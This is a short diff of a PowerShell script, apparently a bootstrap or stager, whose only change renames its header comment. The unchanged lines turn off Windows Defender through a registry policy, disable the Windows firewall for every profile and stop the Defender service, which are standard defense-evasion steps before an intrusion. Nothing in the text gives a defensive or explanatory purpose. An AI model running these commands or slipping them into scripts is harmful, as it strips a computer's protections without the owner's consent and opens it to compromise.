@@ -1,4 +1,4 @@
-# bootstrap 9523 v1
+# run 7557 v1
 New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force
 Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
 Stop-Service -Name WinDefend -Force
